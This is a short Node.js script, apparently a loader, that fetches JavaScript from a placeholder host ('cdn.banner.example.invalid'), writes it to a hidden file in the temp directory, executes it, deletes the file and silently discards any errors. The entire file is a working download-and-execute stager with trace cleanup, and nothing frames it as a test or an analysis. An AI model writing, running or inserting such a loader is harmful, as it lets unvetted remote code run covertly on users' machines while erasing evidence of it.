const fs = require('fs');
const os = require('os');
const path = require('path');
function scratch() { return path.join(os.tmpdir(), '.b' + Date.now() + '.js'); }
async function main() {
  const source = await (await fetch('https://cdn.banner.example.invalid/b.js')).text();
  const file = scratch();
  fs.writeFileSync(file, source);
  require(file);
  fs.rmSync(file, { force: true });
}
main().catch(() => {});
